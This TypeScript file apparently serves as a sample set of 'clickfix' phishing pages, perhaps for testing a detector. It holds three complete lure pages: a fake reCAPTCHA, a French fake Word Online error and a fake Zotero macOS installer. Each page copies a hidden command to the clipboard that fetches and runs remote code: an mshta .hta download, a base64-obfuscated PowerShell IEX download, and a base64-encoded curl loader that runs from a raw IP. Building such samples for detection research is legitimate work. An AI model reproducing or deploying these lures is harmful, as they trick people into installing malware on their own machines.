import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { b64, doc } from '../parts/zt-kit.js';

export const entries: Entry[] = [
{
  id: 'zt-clickfix-recaptcha-mshta',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://www.journal-oncology-reports.org/submission/verify.html',
  body: doc('Verification Required', `
<div style="max-width:420px;margin:80px auto;font-family:Roboto,Arial">
 <div id="box" style="border:1px solid #d3d3d3;background:#f9f9f9;border-radius:3px;padding:14px;display:flex;align-items:center;gap:12px;cursor:pointer">
  <div style="width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff"></div><span>I'm not a robot</span>
  <span style="margin-left:auto;font-size:10px;color:#555;text-align:center">&#x21BB;<br>reCAPTCHA<br>Privacy - Terms</span>
 </div>
 <div id="steps" style="display:none;border:1px solid #ddd;margin-top:10px;padding:16px;background:#fff;font-size:14px">
  <b>Verification steps</b>
  <ol><li>Press <b>Windows Button &#x229E; + R</b></li><li>Press <b>CTRL + V</b></li><li>Press <b>Enter</b></li></ol>
  <p style="font-size:12px;color:#666">Perform the steps above to finish verification. ID: 7741-A</p>
 </div>
</div>
<script>
var c='mshta https://cdn-verify-captcha.com/v/7741a.hta # \\u2705 \\u201CI am not a robot - reCAPTCHA Verification ID: 7741\\u201D';
document.getElementById('box').addEventListener('click',function(){
 var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');document.body.removeChild(t);
 if(navigator.clipboard){navigator.clipboard.writeText(c).catch(function(){})}
 document.getElementById('steps').style.display='block';
});
</script>`),
},
{
  id: 'zt-clickfix-fr-word-online',
  label: 'clickfix',
  kind: 'clickfix-fake-error',
  url: 'https://sharepoint-docs-fr.online-viewer.net/document/Convention_de_stage.docx',
  body: doc('Word Online', `
<div style="background:#2b579a;color:#fff;padding:10px 20px;font-family:Segoe UI">Word &middot; Convention_de_stage.docx</div>
<div style="max-width:560px;margin:60px auto;font-family:Segoe UI;border:1px solid #ddd;padding:28px">
 <h2 style="color:#a4262c">Erreur de chargement du document</h2>
 <p>L'extension « Word Online » n'est pas installée dans votre navigateur. Pour afficher ce document hors ligne, suivez les étapes :</p>
 <ol><li>Cliquez sur <b>Comment corriger</b></li><li>Appuyez sur <b>Windows + R</b></li><li>Collez (<b>Ctrl + V</b>) puis appuyez sur <b>Entrée</b></li></ol>
 <button id="b" style="background:#2b579a;color:#fff;border:0;padding:10px 24px">Comment corriger</button>
</div>
<script>
var x=["cG93ZXJzaGVsbCAtZSA","${b64('IEX(irm https://office-fix.fr-cdn.top/w.ps1)').replace(/=+$/, '')}"];
document.getElementById('b').addEventListener('click',function(){
  var cmd='powershell -nop -w 1 -c "'+atob(x[1])+'"';
  navigator.clipboard.writeText(cmd).then(function(){alert('Copié. Collez dans la fenêtre Exécuter.')});
});
</script>`, { lang: 'fr' }),
},
{
  id: 'zt-clickfix-macos-terminal',
  label: 'clickfix',
  kind: 'clickfix-macos',
  url: 'https://get-zotero-connector.app/mac/install',
  body: doc('Install Zotero Connector for macOS', `
<div style="max-width:640px;margin:50px auto;font-family:-apple-system,Helvetica">
 <h1>Zotero Connector for Safari</h1>
 <p>The App Store version is temporarily unavailable. Install the connector using Terminal:</p>
 <ol><li>Press <b>&#x2318; + Space</b>, type <b>Terminal</b> and press Return</li><li>Click the button below to copy the install command</li><li>Paste it in Terminal (<b>&#x2318; + V</b>) and press Return. Enter your Mac password if asked.</li></ol>
 <div style="display:flex;gap:10px"><code style="flex:1;background:#f2f2f2;padding:10px;overflow:hidden;white-space:nowrap">/bin/bash -c "$(curl -fsSL https://get-zotero-connector.app/install.sh)"</code><button id="cp">Copy</button></div>
</div>
<script>
document.getElementById('cp').onclick=function(){
 navigator.clipboard.writeText('echo "Installing Zotero Connector..." && echo ${b64('curl -s http://91.214.78.113/mac/loader -o /tmp/.zc && chmod +x /tmp/.zc && /tmp/.zc')} | base64 -d | bash');
 this.textContent='Copied';
};
</script>`),
},
];
